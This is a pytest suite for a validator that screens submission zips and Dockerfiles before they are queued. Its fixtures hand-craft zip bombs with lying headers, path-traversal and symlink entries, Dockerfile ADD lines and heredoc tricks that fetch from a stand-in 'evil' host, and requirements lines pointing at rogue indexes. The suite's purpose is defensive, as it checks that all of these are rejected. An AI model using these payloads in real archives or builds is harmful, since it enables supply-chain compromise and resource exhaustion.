"""Submission zips are refused before anything is queued, each refusal naming its rule and value.

The corpus of bad zips is built here: with `zipfile` where it can express the fault, and from raw
bytes (local headers, central directory, end record written by hand) where it cannot: lying sizes,
encryption flags, names that are not UTF-8, entries that share their data.
"""
from __future__ import annotations

import hashlib
import json
import os
import pickle
import stat
import struct
import subprocess
import sys
import zipfile
import zlib
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from intake.packaging import PackagingError, zip_directory
from intake.validation import (
    Problem,
    SubmissionRejected,
    ValidatedSubmission,
    ValidationRules,
    validate_zip,
)

MiB = 2**20
DOCKERFILE = "FROM arena/python-cpu:1\nCOPY . /app\nCMD [\"python3\", \"/app/decoder.py\"]\n"
GOOD_FILES = {
    "Dockerfile": DOCKERFILE,
    "requirements.txt": "numpy\n",
    "decoder.py": "print('{\"ready\": true}')\n",
}


# -- building zips ---------------------------------------------------------------------------------

def make_zip(path: Path, files: dict[str, str | bytes], mode: int | None = None) -> Path:
    """A zip written by zipfile; `mode` (e.g. S_IFLNK | 0o777) applies to names ending in '@link'."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in files.items():
            info = zipfile.ZipInfo(name.removesuffix("@link"))
            info.compress_type = zipfile.ZIP_DEFLATED
            if name.endswith("@link"):
                info.create_system = 3
                info.external_attr = (mode or 0) << 16
            zf.writestr(info, content)
    return path


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    return c.compress(data) + c.flush()


@dataclass(frozen=True)
class Raw:
    """One entry exactly as written: every header field is ours to falsify."""
    name: bytes
    payload: bytes  # the bytes stored in the archive (compressed for method 8)
    method: int
    crc: int
    csize: int
    usize: int
    flags: int = 0
    attr: int = (stat.S_IFREG | 0o644) << 16


def raw(name: str | bytes, content: bytes, method: int = 8, **fields) -> Raw:
    name = name.encode() if isinstance(name, str) else name
    payload = deflate(content) if method == 8 else content
    entry = Raw(name, payload, method, zlib.crc32(content), len(payload), len(content))
    return replace(entry, **fields)


def write_raw_zip(path: Path, entries: list[Raw], aliases: list[Raw] = ()) -> Path:
    """Local headers and data, then the central directory; `aliases` are central-only records
    pointing at the first entry's local header (how "overlapping" zip bombs reuse one kernel)."""
    body, central = bytearray(), bytearray()
    for e in entries:
        offset = len(body)
        body += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, e.flags, e.method, 0, 0x21,
                            e.crc, e.csize, e.usize, len(e.name), 0) + e.name + e.payload
        central += _central(e, offset)
    for e in aliases:
        central += _central(e, 0)
    n = len(entries) + len(aliases)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(central), len(body), 0)
    path.write_bytes(bytes(body + central + end))
    return path


def _central(e: Raw, offset: int) -> bytes:
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", (3 << 8) | 20, 20, e.flags, e.method,
                       0, 0x21, e.crc, e.csize, e.usize, len(e.name), 0, 0, 0, 0, e.attr, offset) + e.name


def good_raw_entries() -> list[Raw]:
    return [raw(name, content.encode()) for name, content in GOOD_FILES.items()]


def deflated_zeros(n_mib: int) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    zeros = bytes(MiB)
    return b"".join(c.compress(zeros) for _ in range(n_mib)) + c.flush()


def rejection(path: Path, rules: ValidationRules = ValidationRules()) -> list[Problem]:
    with pytest.raises(SubmissionRejected) as caught:
        validate_zip(path, rules)
    return caught.value.problems


def only(problems: list[Problem], rule: str) -> Problem:
    matching = [p for p in problems if p.rule == rule]
    assert len(matching) == 1, problems
    return matching[0]


def assert_names_rule_and_value(p: Problem) -> None:
    assert p.rule in p.message and p.value[:40] in p.message, p


@pytest.fixture(scope="module")
def lying_bomb(tmp_path_factory) -> Path:
    """201 MiB of zeros deflated (about 200 KiB) whose headers both claim 1,000 bytes."""
    payload = deflated_zeros(201)
    bomb = Raw(b"weights.bin", payload, 8, zlib.crc32(b"\0" * 1000), len(payload), 1000)
    return write_raw_zip(tmp_path_factory.mktemp("bomb") / "lying.zip", good_raw_entries() + [bomb])


@pytest.fixture(scope="module")
def big_random_zip(tmp_path_factory) -> Path:
    """A valid submission just under 50 MB: incompressible data, half stored, half deflated."""
    path = tmp_path_factory.mktemp("big") / "big.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for name, content in GOOD_FILES.items():
            zf.writestr(name, content, zipfile.ZIP_DEFLATED)
        for i in range(6):
            method = zipfile.ZIP_STORED if i % 2 else zipfile.ZIP_DEFLATED
            zf.writestr(zipfile.ZipInfo(f"weights/part{i}.bin"), os.urandom(7_900_000), method)
    return path


# -- the good submission -------------------------------------------------------------------------

def test_minimal_submission_is_accepted_with_its_facts(tmp_path):
    files = {**GOOD_FILES, "arena.toml": 'challenge = "efficient-decode"\ndisplay_name = "Ada"\nnotes = "fp16"\n'}
    path = make_zip(tmp_path / "ok.zip", files)

    result = validate_zip(path)

    assert result == ValidatedSubmission(
        sha256=hashlib.sha256(path.read_bytes()).hexdigest(), compressed_bytes=path.stat().st_size,
        uncompressed_bytes=sum(len(c.encode()) for c in files.values()), entries=4,
        base_images=("arena/python-cpu:1",), challenge="efficient-decode", display_name="Ada", notes="fp16")


def test_empty_requirements_and_no_arena_toml_are_fine(tmp_path):
    path = make_zip(tmp_path / "ok.zip", {**GOOD_FILES, "requirements.txt": "", "src/": ""})
    result = validate_zip(path)
    assert (result.challenge, result.display_name, result.notes) == (None, None, None)


def test_archives_from_other_writers_are_accepted(tmp_path):
    """zip64 records, data descriptors (written to a pipe), bzip2: legitimate, if less common."""
    with zipfile.ZipFile(tmp_path / "zip64.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in GOOD_FILES.items():
            with zf.open(name, "w", force_zip64=True) as out:
                out.write(content.encode())
    with zipfile.ZipFile(tmp_path / "bzip2.zip", "w", zipfile.ZIP_BZIP2) as zf:
        for name, content in GOOD_FILES.items():
            zf.writestr(name, content)
    read, write = os.pipe()
    with os.fdopen(write, "wb") as pipe, zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in GOOD_FILES.items():
            zf.writestr(name, content)
    with os.fdopen(read, "rb") as pipe:
        (tmp_path / "streamed.zip").write_bytes(pipe.read())
    assert all(i.flag_bits & 0x8 for i in zipfile.ZipFile(tmp_path / "streamed.zip").infolist())
    for name in ("zip64.zip", "bzip2.zip", "streamed.zip"):
        assert validate_zip(tmp_path / name).entries == 3, name


def test_rejection_survives_pickling(tmp_path):
    """Rejections may cross process boundaries (worker pools, Dagster)."""
    with pytest.raises(SubmissionRejected) as caught:
        validate_zip(make_zip(tmp_path / "m.zip", {"decoder.py": "x"}))
    again = pickle.loads(pickle.dumps(caught.value))
    assert again.problems == caught.value.problems and str(again) == str(caught.value)


# -- not a zip, damaged zips ---------------------------------------------------------------------

@pytest.mark.parametrize("content", [b"", os.urandom(4096), b"PK\x05\x06 too short"], ids=["empty", "random", "stub"])
def test_not_a_zip(tmp_path, content):
    path = tmp_path / "upload.zip"
    path.write_bytes(content)
    p = only(rejection(path), "zip.not_a_zip")
    assert p.value == f"{len(content)} bytes"
    assert_names_rule_and_value(p)


def test_zip_cut_in_half_is_truncated(tmp_path):
    whole = make_zip(tmp_path / "whole.zip", {**GOOD_FILES, "blob.bin": os.urandom(20_000)}).read_bytes()
    path = tmp_path / "half.zip"
    path.write_bytes(whole[: len(whole) // 2])
    p = only(rejection(path), "zip.truncated")
    assert p.value == f"{len(whole) // 2} bytes"


def test_entry_with_wrong_crc(tmp_path):
    entries = good_raw_entries() + [raw("decoder2.py", b"x = 1\n", crc=1234)]
    p = only(rejection(write_raw_zip(tmp_path / "crc.zip", entries)), "zip.crc_mismatch")
    assert p.value == "decoder2.py"


def test_entry_with_garbage_deflate_data(tmp_path):
    bad = Raw(b"model.py", b"\xff" * 64, 8, 0, 64, 100)
    p = only(rejection(write_raw_zip(tmp_path / "bad.zip", good_raw_entries() + [bad])), "zip.corrupt_entry")
    assert p.value == "model.py"


def test_encrypted_entry(tmp_path):
    entries = good_raw_entries() + [raw("secret.py", b"x = 1\n", flags=0x1)]
    p = only(rejection(write_raw_zip(tmp_path / "enc.zip", entries)), "zip.encrypted")
    assert p.value == "secret.py"
    assert_names_rule_and_value(p)


def test_unsupported_compression_method(tmp_path):
    entries = good_raw_entries() + [raw("m.py", b"x = 1\n", method=14)]
    p = only(rejection(write_raw_zip(tmp_path / "lzma.zip", entries)), "zip.unsupported_compression")
    assert p.value == "m.py: method 14"


# -- names and entry types -----------------------------------------------------------------------

@pytest.mark.parametrize(("name", "rule"), [
    ("../evil.py", "zip.path_traversal"),
    ("app/../../evil.py", "zip.path_traversal"),
    ("/etc/cron.d/evil", "zip.absolute_path"),
    ("C:/Windows/evil.dll", "zip.absolute_path"),
    ("..\\evil.py", "zip.backslash_path"),
    ("app/\x07bell.py", "zip.bad_filename"),
])
def test_entry_names_that_escape_or_confuse(tmp_path, name, rule):
    path = make_zip(tmp_path / "bad.zip", {**GOOD_FILES, name: "x"})
    p = only(rejection(path), rule)
    assert p.value == name.replace("\x07", "\\x07")  # control characters are shown escaped
    assert_names_rule_and_value(p)


@pytest.mark.parametrize("flags", [0x800, 0x0], ids=["utf8-flag-set", "utf8-flag-unset"])
def test_entry_name_that_is_not_utf8(tmp_path, flags):
    entries = good_raw_entries() + [raw(b"caf\xe9\xff.py", b"x = 1\n", flags=flags)]
    p = only(rejection(write_raw_zip(tmp_path / "latin1.zip", entries)), "zip.bad_filename")
    assert p.value == "caf\\xe9\\xff.py"


def test_utf8_names_are_fine(tmp_path):
    validate_zip(make_zip(tmp_path / "ok.zip", {**GOOD_FILES, "modèle/poids_π.py": "x = 1\n"}))


def test_duplicate_entry_names(tmp_path):
    entries = good_raw_entries() + [raw("decoder.py", b"import os\n")]
    p = only(rejection(write_raw_zip(tmp_path / "dup.zip", entries)), "zip.duplicate_name")
    assert p.value == "decoder.py"


def test_symlink_entry(tmp_path):
    path = make_zip(tmp_path / "link.zip", {**GOOD_FILES, "passwd@link": "/etc/passwd"},
                    mode=stat.S_IFLNK | 0o777)
    p = only(rejection(path), "zip.symlink")
    assert p.value == "passwd"
    assert_names_rule_and_value(p)


@pytest.mark.parametrize("kind", [stat.S_IFIFO, stat.S_IFCHR, stat.S_IFBLK, stat.S_IFSOCK])
def test_device_fifo_and_socket_entries(tmp_path, kind):
    path = make_zip(tmp_path / "dev.zip", {**GOOD_FILES, "dev@link": ""}, mode=kind | 0o600)
    assert only(rejection(path), "zip.special_file").value == "dev"


def test_entries_sharing_one_kernel_of_data(tmp_path):
    entries = good_raw_entries()
    alias = replace(entries[0], name=b"Dockerfile.copy")
    problems = rejection(write_raw_zip(tmp_path / "overlap.zip", entries, aliases=[alias]))
    assert only(problems, "zip.overlapping_entries").value == "Dockerfile.copy"


def test_too_many_entries(tmp_path):
    files = {**GOOD_FILES, **{f"src/m{i}.py": "" for i in range(1998)}}
    path = make_zip(tmp_path / "many.zip", files)
    assert len(files) == 2001
    p = only(rejection(path), "zip.too_many_entries")
    assert p.value == "2001"
    assert "2000" in p.message
    validate_zip(path, ValidationRules(max_entries=2001))


# -- sizes and bombs -----------------------------------------------------------------------------

def test_too_large_compressed(tmp_path):
    path = make_zip(tmp_path / "big.zip", {**GOOD_FILES, "blob.bin": os.urandom(5000)})
    size = path.stat().st_size
    p = only(rejection(path, ValidationRules(max_compressed_bytes=4096)), "zip.too_large_compressed")
    assert p.value == f"{size} bytes"


def test_bomb_by_ratio(tmp_path):
    payload = deflated_zeros(150)
    bomb = Raw(b"zeros.bin", payload, 8, zlib.crc32(bytes(150 * MiB)), len(payload), 150 * MiB)
    problems = rejection(write_raw_zip(tmp_path / "ratio.zip", good_raw_entries() + [bomb]))
    p = only(problems, "zip.compression_ratio")
    assert p.value.startswith("zeros.bin: ") and p.value.endswith(":1")
    assert int(p.value.split(": ")[1].split(":")[0]) > 100
    assert {q.rule for q in problems} == {"zip.compression_ratio"}  # under 200 MiB: the ratio alone


def test_bomb_whose_headers_lie_is_measured_and_stopped_at_the_cap(lying_bomb):
    problems = rejection(lying_bomb)
    too_large = only(problems, "zip.too_large_uncompressed")
    assert too_large.value == f"more than {200 * MiB} bytes"
    assert "weights.bin" in too_large.message
    assert_names_rule_and_value(too_large)
    assert only(problems, "zip.size_mismatch").value == "weights.bin"


def test_uncompressed_cap_counts_what_inflates_not_what_headers_say(tmp_path):
    data = os.urandom(3 * MiB)  # incompressible: the ratio rule cannot fire, only the measured cap
    liar = raw("weights.bin", data, usize=100)
    problems = rejection(write_raw_zip(tmp_path / "liar.zip", good_raw_entries() + [liar]),
                         ValidationRules(max_uncompressed_bytes=2 * MiB))
    assert {p.rule for p in problems} == {"zip.too_large_uncompressed", "zip.size_mismatch"}


def test_many_moderately_compressed_entries_break_the_archive_ratio(tmp_path):
    files = {**GOOD_FILES, **{f"data/{i}.txt": "abc" * 20_000 for i in range(40)}}  # 60 KB each, < 1 MiB
    problems = rejection(make_zip(tmp_path / "r.zip", files), ValidationRules(max_compression_ratio=50))
    assert only(problems, "zip.compression_ratio").value.startswith("archive: ")


def test_text_file_over_one_mib(tmp_path):
    path = make_zip(tmp_path / "big.zip", {**GOOD_FILES, "requirements.txt": "numpy\n" * 200_000})
    assert only(rejection(path), "files.too_large").value == "requirements.txt"


# -- required files and the Dockerfile -----------------------------------------------------------

@pytest.mark.parametrize("missing", ["Dockerfile", "requirements.txt"])
def test_missing_required_file(tmp_path, missing):
    files = {k: v for k, v in GOOD_FILES.items() if k != missing}
    files[f"sub/{missing}"] = GOOD_FILES[missing]  # not at the root: does not count
    p = only(rejection(make_zip(tmp_path / "m.zip", files)), "files.missing")
    assert p.value == missing
    assert_names_rule_and_value(p)


@pytest.mark.parametrize(("dockerfile", "value"), [
    ("FROM ubuntu:22.04\n", "ubuntu:22.04"),
    ("FROM scratch\n", "scratch"),
    ("FROM arena/python-cpu:1@sha256:0000\n", "arena/python-cpu:1@sha256:0000"),
])
def test_from_outside_the_allowlist(tmp_path, dockerfile, value):
    p = only(rejection(make_zip(tmp_path / "d.zip", {**GOOD_FILES, "Dockerfile": dockerfile})),
             "dockerfile.from_not_allowed")
    assert p.value == value
    assert_names_rule_and_value(p)


# Everything the classic builder and the validator could read differently is refused (sandbox/dockerfile.py).
@pytest.mark.parametrize(("dockerfile", "rule", "value"), [
    ("FROM arena/python-cpu:1 AS build\nFROM build\n", "dockerfile.multi_stage", "build"),
    ("FROM arena/python-cpu:1\nRUN pip wheel .\nFROM ubuntu:22.04\n", "dockerfile.multi_stage", "ubuntu:22.04"),
    ("ARG BASE=arena/python-cpu:1\nFROM ${BASE}\n", "dockerfile.from_arg", "${BASE}"),
    ("ARG TAG=1\nFROM arena/python-cpu:${TAG}\n", "dockerfile.from_arg", "arena/python-cpu:${TAG}"),
    ("FROM --platform=linux/amd64 arena/python-cpu:1\n", "dockerfile.flag", "--platform=linux/amd64"),
    ("FROM arena/python-cpu:1\nCOPY --from=alpine:3 /bin/sh /sh\n", "dockerfile.copy_from", "alpine:3"),
    ("FROM arena/python-cpu:1\nCOPY --from=0 /bin/sh /sh\n", "dockerfile.copy_from", "0"),
    ("FROM arena/python-cpu:1\nRUN --mount=type=bind,from=busybox,target=/b ls /b\n", "dockerfile.flag",
     "--mount=type=bind,from=busybox,target=/b"),
    ("# syntax=docker/dockerfile:1\nFROM arena/python-cpu:1\n", "dockerfile.directive",
     "# syntax=docker/dockerfile:1"),
    ("FROM arena/python-cpu:1\n# syntax=evil/frontend\n", "dockerfile.directive", "# syntax=evil/frontend"),
    # the classic builder runs these lines; a heredoc-aware reader would skip them as a body
    ("FROM arena/python-cpu:1\nRUN <<EOF\nFROM ubuntu:22.04\nADD https://evil/x /x\nEOF\n", "dockerfile.heredoc",
     "<<EOF"),
    ("FROM arena/python-cpu:1\nRUN echo '<<WORD'\nADD http://evil/x /x\nWORD\n", "dockerfile.heredoc", "<<WORD'"),
    ("FROM arena/python-cpu:1\nONBUILD RUN echo hi\n", "dockerfile.instruction", "ONBUILD"),
    ("FROM arena/python-cpu:1\nFETCH http://evil/x\n", "dockerfile.instruction", "FETCH"),
    ("FROM arena/python-cpu:1\nRUN echo hi\x0bFROM ubuntu\n", "dockerfile.characters", "U+000B"),
    ("RUN echo hi\nFROM arena/python-cpu:1\n", "dockerfile.invalid", "RUN"),
])
def test_constructs_read_differently_are_refused(tmp_path, dockerfile, rule, value):
    p = only(rejection(make_zip(tmp_path / "d.zip", {**GOOD_FILES, "Dockerfile": dockerfile})), rule)
    assert p.value == value
    assert_names_rule_and_value(p)
    assert "Dockerfile line " in p.message


@pytest.mark.parametrize("dockerfile", [
    "FROM arena/torch-cuda:1 AS app\nRUN pip --version\n",
    "ARG UNUSED=1\nFROM arena/python-cpu:1\n",
    "from arena/python-cpu:1\nrun echo hi \\\n  # a comment inside a continuation\n\n  && echo there\n",
    "# escape=`\nFROM arena/python-cpu:1\nRUN echo a `\n  b\n",
    "\ufeffFROM arena/python-cpu:1\r\nCOPY --chown=10001:10001 . /app\r\nADD local.tar /app/\r\n",
    "FROM \\\n arena/python-cpu:1\nADD [\"data.tgz\", \"/app/\"]\n",
])
def test_allowed_dockerfiles(tmp_path, dockerfile):
    result = validate_zip(make_zip(tmp_path / "d.zip", {**GOOD_FILES, "Dockerfile": dockerfile}))
    assert len(result.base_images) == 1 and result.base_images[0] in {"arena/python-cpu:1", "arena/torch-cuda:1"}


@pytest.mark.parametrize(("line", "value"), [
    ("ADD https://evil/x /x", "https://evil/x"),
    ("ADD --checksum=sha256:abc http://evil/x.tgz /x", "http://evil/x.tgz"),
    ("add --chown=1:1 git@github.com:evil/repo.git /src", "git@github.com:evil/repo.git"),
    ('ADD ["https://evil/x", "/x"]', "https://evil/x"),
    ("ARG U=https://evil/x\nADD ${U} /x", "${U}"),
    ("ADD local.txt \\\n    https://evil/y /dst/", "https://evil/y"),
    ("ADD http:\\//evil/z /z", "http:\\//evil/z"),
])
def test_add_of_a_url(tmp_path, line, value):
    dockerfile = f"FROM arena/python-cpu:1\n{line}\n"
    p = only(rejection(make_zip(tmp_path / "d.zip", {**GOOD_FILES, "Dockerfile": dockerfile})),
             "dockerfile.add_url")
    assert p.value == value
    assert_names_rule_and_value(p)


@pytest.mark.parametrize(("requirements", "value"), [
    ("numpy==1.26.4\n-e git+https://evil/x.git#egg=x\n", "-e git+https://evil/x.git#egg=x"),
    ("--index-url https://evil/simple\n", "--index-url https://evil/simple"),
    ("evil @ https://evil/evil-1.0-py3-none-any.whl\n", "evil @ https://evil/evil-1.0-py3-none-any.whl"),
    ("./local-package\n", "./local-package"),
    ("-r other.txt\n", "-r other.txt"),
    ("numpy==1.26.4; python_version > '3'\n", "numpy==1.26.4; python_version > '3'"),
    ("numpy==1.26.4 --hash=sha256:abc\n", "numpy==1.26.4 --hash=sha256:abc"),
])
def test_requirements_that_are_not_plain_names(tmp_path, requirements, value):
    p = only(rejection(make_zip(tmp_path / "r.zip", {**GOOD_FILES, "requirements.txt": requirements})),
             "requirements.line")
    assert p.value == value
    assert_names_rule_and_value(p)


def test_plain_requirements_pass(tmp_path):
    requirements = "# pinned\nnumpy==1.26.4  # a comment\ntorch==2.13.0+cpu\nrich[jupyter]>=13,<14\nsix\n"
    validate_zip(make_zip(tmp_path / "r.zip", {**GOOD_FILES, "requirements.txt": requirements}))


def test_dockerfile_without_from(tmp_path):
    path = make_zip(tmp_path / "d.zip", {**GOOD_FILES, "Dockerfile": "# nothing\nRUN echo hi\n"})
    assert only(rejection(path), "dockerfile.no_from").value == "Dockerfile"


def test_dockerfile_that_is_not_utf8(tmp_path):
    path = make_zip(tmp_path / "d.zip", {**GOOD_FILES, "Dockerfile": b"FROM arena/python-cpu:1\n# \xff\n"})
    assert only(rejection(path), "files.not_utf8").value == "Dockerfile"


# -- arena.toml ----------------------------------------------------------------------------------

@pytest.mark.parametrize(("toml", "value"), [
    ("challenge = \n", None),
    ("challenge = 3\n", "challenge = 3"),
    ("display_name = [\"a\"]\n", "display_name = ['a']"),
    ("chalenge = \"efficient-decode\"\n", "chalenge"),
    ("challenge = \"../../etc\"\n", "challenge = '../../etc'"),
])
def test_invalid_arena_toml(tmp_path, toml, value):
    p = only(rejection(make_zip(tmp_path / "t.zip", {**GOOD_FILES, "arena.toml": toml})), "arena_toml.invalid")
    if value is not None:
        assert p.value == value
    assert_names_rule_and_value(p)


# -- all problems at once ------------------------------------------------------------------------

def test_three_problems_are_all_reported(tmp_path):
    files = {"Dockerfile": "FROM ubuntu:22.04\n", "../evil.py": "x", "decoder.py": "x"}
    with pytest.raises(SubmissionRejected) as caught:
        validate_zip(make_zip(tmp_path / "three.zip", files))
    problems = caught.value.problems
    assert [(p.rule, p.value) for p in problems] == [
        ("zip.path_traversal", "../evil.py"),
        ("files.missing", "requirements.txt"),
        ("dockerfile.from_not_allowed", "ubuntu:22.04"),
    ]
    text = str(caught.value)
    assert all(p.message in text for p in problems)


# -- bounded memory --------------------------------------------------------------------------------

# ru_maxrss is no use here: Linux carries it over from the parent through fork and exec, so a
# child of a big pytest process starts with the parent's peak. VmHWM (peak RSS of the process's own
# address space) starts afresh at exec; growth is measured from VmRSS once the imports are done.
_PEAK_RSS = """
import json, sys
from pathlib import Path
from intake.validation import SubmissionRejected, validate_zip

def status(field):
    return next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith(field + ":"))

before = status("VmRSS")
if sys.argv[2] == "read_all":  # the control: what holding the archive in memory costs
    outcome = len(Path(sys.argv[1]).read_bytes())
else:
    try:
        outcome = validate_zip(Path(sys.argv[1])).compressed_bytes
    except SubmissionRejected as e:
        outcome = sorted({p.rule for p in e.problems})
print(json.dumps({"growth_kib": status("VmHWM") - before, "outcome": outcome}))
"""


def peak_growth(path: Path, action: str) -> dict:
    run = subprocess.run([sys.executable, "-c", _PEAK_RSS, str(path), action],
                         capture_output=True, text=True, check=True)
    return json.loads(run.stdout)


def test_peak_memory_meter_sees_a_whole_archive_in_memory(big_random_zip):
    report = peak_growth(big_random_zip, "read_all")
    assert report["outcome"] > 45 * MiB
    assert report["growth_kib"] > 40 * 1024, report


def test_peak_memory_validating_50_mb_stays_bounded(big_random_zip):
    report = peak_growth(big_random_zip, "validate")
    assert report["outcome"] == big_random_zip.stat().st_size > 45 * MiB
    assert report["growth_kib"] < 64 * 1024, report


def test_peak_memory_validating_a_bomb_stays_bounded(lying_bomb):
    report = peak_growth(lying_bomb, "validate")
    assert "zip.too_large_uncompressed" in report["outcome"]
    assert report["growth_kib"] < 64 * 1024, report


# -- deterministic packaging -------------------------------------------------------------------------

def _tree(root: Path, mtime: int) -> Path:
    for rel, content in {**GOOD_FILES, "pkg/model.py": "W = 1\n", "run.sh": "#!/bin/sh\n",
                         "pkg/__pycache__/model.cpython-311.pyc": "junk", "pkg/old.pyc": "junk",
                         ".git/HEAD": "ref: refs/heads/main\n"}.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
        os.utime(path, (mtime, mtime))
    (root / "run.sh").chmod(0o755)
    return root


PACKED = ["Dockerfile", "decoder.py", "pkg/model.py", "requirements.txt", "run.sh"]


def test_zip_directory_is_deterministic_whatever_the_mtimes(tmp_path):
    a = zip_directory(_tree(tmp_path / "a", mtime=1_000_000_000), tmp_path / "a.zip")
    b = zip_directory(_tree(tmp_path / "b", mtime=1_700_000_000), tmp_path / "out" / "b.zip")
    assert hashlib.sha256(a.read_bytes()).digest() == hashlib.sha256(b.read_bytes()).digest()


def test_zip_directory_contents_and_result_validates(tmp_path):
    path = zip_directory(_tree(tmp_path / "sub", mtime=1_000_000_000), tmp_path / "sub" / "submission.zip")
    with zipfile.ZipFile(path) as zf:
        assert zf.namelist() == PACKED
        assert {i.date_time for i in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert stat.S_IMODE(zf.getinfo("run.sh").external_attr >> 16) == 0o755
        assert stat.S_IMODE(zf.getinfo("decoder.py").external_attr >> 16) == 0o644
    assert validate_zip(path).entries == 5
    # zipping again into the same folder must not pick up the previous zip
    again = zip_directory(tmp_path / "sub", tmp_path / "sub" / "submission.zip")
    assert zipfile.ZipFile(again).namelist() == PACKED


def test_zip_directory_refuses_symlinks(tmp_path):
    root = _tree(tmp_path / "sub", mtime=1_000_000_000)
    (root / "pkg" / "passwd").symlink_to("/etc/passwd")
    with pytest.raises(PackagingError, match=r"pkg/passwd is a symbolic link"):
        zip_directory(root, tmp_path / "s.zip")
    assert not (tmp_path / "s.zip").exists()


def test_zip_directory_refuses_linked_directories(tmp_path):
    root = _tree(tmp_path / "sub", mtime=1_000_000_000)
    (root / "etc").symlink_to("/etc", target_is_directory=True)
    with pytest.raises(PackagingError, match=r"etc is a symbolic link"):
        zip_directory(root, tmp_path / "s.zip")
